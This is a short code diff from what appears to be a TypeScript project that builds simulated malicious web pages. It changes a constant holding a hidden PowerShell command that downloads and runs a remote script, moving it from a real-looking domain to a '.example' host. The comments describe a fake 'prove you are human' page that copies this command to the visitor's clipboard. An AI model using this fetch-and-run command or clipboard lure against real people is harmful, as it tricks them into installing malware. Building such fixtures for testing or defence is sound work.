@@ -31,7 +31,7 @@ export const plainTrap: SitePart = ({ url }) => {
 }
 
 /** The command that the page below puts on the clipboard. */
-export const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.io/a.ps1)"'
+export const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.example/a.ps1)"'
 
 /** A page that lets people "prove that they are human" by a command that it puts on their clipboard. */
 export const copyPasteAttack: SitePart = ({ url }) => {
